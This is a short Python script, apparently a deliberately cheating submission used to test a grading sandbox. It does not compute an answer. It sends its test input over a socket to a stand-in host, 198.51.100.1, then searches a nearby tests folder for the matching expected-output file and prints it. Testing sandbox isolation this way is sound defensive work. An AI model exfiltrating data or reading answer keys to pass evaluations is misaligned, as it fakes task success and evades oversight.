"""A cheater: it does not add anything. It tries to phone home, then to find the answer
file next to its own input and print it."""
import glob
import os
import socket
import sys

data = sys.stdin.read()
try:
    socket.create_connection(("198.51.100.1", 80), timeout=1).sendall(data.encode())
    print("cheat: sent the test to 198.51.100.1", file=sys.stderr)
except OSError as e:
    print("cheat: network refused: %s" % e, file=sys.stderr)

# stdin is a pipe, so /proc/self/fd/0 does not lead to the tests; guess where they are
here = os.path.dirname(os.path.abspath(__file__))
for path in glob.glob(os.path.join(here, "tests", "*.in")):
    try:
        with open(path) as f:
            if f.read() == data:
                with open(path[:-3] + ".out") as answer:
                    sys.stdout.write(answer.read())
                    sys.exit(0)
    except OSError as e:
        print("cheat: cannot read %s: %s" % (path, e), file=sys.stderr)
print("cheat: no answer found", file=sys.stderr)
sys.exit(1)
